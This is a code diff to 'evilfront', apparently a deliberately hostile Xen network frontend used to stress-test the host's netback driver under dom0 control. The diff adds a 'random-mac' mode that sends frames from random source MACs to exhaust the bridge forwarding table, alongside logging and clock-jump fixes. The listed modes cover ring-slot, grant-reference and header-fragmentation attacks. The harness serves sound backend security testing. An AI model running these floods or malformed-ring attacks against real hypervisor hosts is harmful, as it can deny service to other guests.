@@ -36,6 +36,8 @@
  *   no-rx          (f) no RX buffers posted (those posted are used up)
  *   tiny-head      (h) frames whose headers come in 18 one-byte slots
  *                      (XSA-423/432), then 100 bytes of payload: legal
+ *   random-mac     (i) legal 60-byte frames, each from a new random
+ *                      (locally administered) source MAC: FDB exhaustion
  *   good               never attacks (a baseline attacker)
  *
  * Output (stdout, one line each): "evilfront: connected ...", "evilfront:
@@ -61,6 +63,8 @@
 #define EF_FPS_DEFAULT 2000         /* frame attacks per second */
 #define EF_STATE_POLL_S 0.2         /* how often the backend state is read */
 #define EF_PROD_JUMP 1000
+#define EF_STATE_POLL_ITERS 100000      /* ... or after this many loop turns */
+#define EF_CLOCK_JUMP_S 5.0             /* a step of the clock worth a log line */
 
 static volatile sig_atomic_t attack_on, quit;
 static void on_signal(int s)
@@ -114,13 +118,28 @@ static void put_sent(struct ef *e)
     xs_put(e, "xvs-evil-sent", v);
 }
 
+/* A failed xenstore read is said once and again at every power of two:
+ * an order that never arrives must leave a trace in the log. */
+static void xs_failed(const char *what)
+{
+    static unsigned long n;
+    int err = errno;
+    n++;
+    if (!(n & (n - 1)))
+        printf("evilfront: xenstore read of %s failed (%lu so far): %s\n", what, n,
+               strerror(err));
+}
+
 /* dom0's orders in the frontend directory (xvs-evil: on, off, quit) */
 static void read_orders(struct ef *e)
 {
     static char last[8];
     char *c = xs_get(e, e->fe, "xvs-evil");
-    if (!c)
+    if (!c) {
+        if (errno != ENOENT)
+            xs_failed("xvs-evil");
         return;
+    }
     if (strcmp(c, last)) {
         snprintf(last, sizeof last, "%s", c);
         if (!strcmp(c, "on"))
@@ -136,6 +155,8 @@ static void read_orders(struct ef *e)
 static int backend_state(struct ef *e)
 {
     char *s = xs_get(e, e->be, "state");
+    if (!s)
+        xs_failed("the backend state");
     int v = s ? atoi(s) : -1;
     free(s);
     return v;
@@ -190,6 +211,23 @@ static void send_hello(struct ef *e)
 }
 
 /* One frame attack, if the pace and the ring allow. */
+static void random_mac_frame(struct ef *e)
+{
+    uint8_t f[60] = { 0 };
+    uint32_t r = (uint32_t)random();
+    memcpy(f, e->dst, 6);
+    f[6] = 0x02;                    /* unicast, locally administered */
+    f[7] = 0x66;
+    memcpy(f + 8, &r, 4);
+    f[12] = 0x88;
+    f[13] = 0xb5;
+    if (nf_send(e->nf, f, sizeof f, NULL) == 0) {
+        nf_flush(e->nf);
+        e->tokens -= 1;
+        e->sent++;
+    }
+}
+
 static void frame_attack(struct ef *e)
 {
     static struct nf_raw_slot s[NF_TX_IDS];
@@ -203,6 +241,10 @@ static void frame_attack(struct ef *e)
         e->tokens = e->fps / 10.0 + 1;
     if (e->tokens < 1)
         return;
+    if (!strcmp(e->mode, "random-mac")) {
+        random_mac_frame(e);
+        return;
+    }
     memcpy(fill, e->dst, 6);
     memcpy(fill + 6, e->mac, 6);
     memset(s, 0, sizeof s);
@@ -268,7 +310,8 @@ static void attack_step(struct ef *e)
 static void usage(void)
 {
     fprintf(stderr, "usage: evilfront -n DEVID -m MODE [-d DSTMAC] [-r FPS] [-p PIDFILE]\n"
-            "modes: prod-jump slots:N bad-offset bad-gref revoked-mid storm no-rx tiny-head good\n");
+            "modes: prod-jump slots:N bad-offset bad-gref revoked-mid storm no-rx tiny-head "
+            "random-mac good\n");
     exit(2);
 }
 
@@ -295,6 +338,7 @@ int main(int argc, char **argv)
     if (!devid || !e.fps)
         usage();
     setvbuf(stdout, NULL, _IOLBF, 0);
+    srandom((unsigned)getpid());
     signal(SIGUSR1, on_signal);
     signal(SIGUSR2, on_signal);
     signal(SIGTERM, on_signal);
@@ -324,6 +368,12 @@ int main(int argc, char **argv)
         return 1;
     }
     snprintf(e.be, sizeof e.be, "%s", be);
+    /* Initialising, as netfront's probe does: a backend left Closed (or
+     * Connected) by an earlier try on this vif offers InitWait again. */
+    if (xs_put(&e, "state", "1")) {
+        printf("evilfront: %s: cannot write state: %s\n", e.fe, strerror(errno));
+        return 1;
+    }
     printf("evilfront: %s: backend %s, waiting for InitWait\n", e.fe, e.be);
     int s = wait_backend(&e, 2);
     if (s != 2) {
@@ -359,7 +409,8 @@ int main(int argc, char **argv)
     send_hello(&e);
     printf("evilfront: connected %s (backend %s), mode %s\n", e.fe, e.be, e.mode);
 
-    double next_state = 0, t0 = 0;
+    double next_state = 0, t0 = 0, prev_t = now_s();
+    unsigned long turns = 0;
     int last = 4;
     bool was_on = false;
     while (!quit) {
@@ -380,8 +431,16 @@ int main(int argc, char **argv)
                    (unsigned long long)e.sent, now_s() - t0);
             put_sent(&e);
         }
+        /* The orders are read by the clock and, should the guest's clock
+         * jump (seen under TCG: the first attacker of a run stopped
+         * reading them, spinning, with nothing logged), by the turn count. */
         double t = now_s();
-        if (t >= next_state) {
+        if (t < prev_t || t - prev_t > EF_CLOCK_JUMP_S)
+            printf("evilfront: clock jumped %.3f s -> %.3f s\n", prev_t, t);
+        prev_t = t;
+        if (t >= next_state || next_state - t > 2 * EF_STATE_POLL_S
+            || ++turns >= EF_STATE_POLL_ITERS) {
+            turns = 0;
             next_state = t + EF_STATE_POLL_S;
             read_orders(&e);
             int b = backend_state(&e);
@@ -395,9 +454,10 @@ int main(int argc, char **argv)
     put_sent(&e);
     xs_put(&e, "state", "6");
     printf("evilfront: done mode=%s sent=%llu tx_responses=%llu tx_errors=%llu "
-           "rx_frames=%llu backend_state=%d\n", e.mode, (unsigned long long)e.sent,
+           "rx_frames=%llu events=%llu backend_state=%d\n", e.mode, (unsigned long long)e.sent,
            (unsigned long long)st->tx_responses, (unsigned long long)st->tx_errors,
-           (unsigned long long)st->rx_frames, backend_state(&e));
+           (unsigned long long)st->rx_frames, (unsigned long long)st->events,
+           backend_state(&e));
     nf_destroy(e.nf);
     xs_close(e.xs);
     return 0;
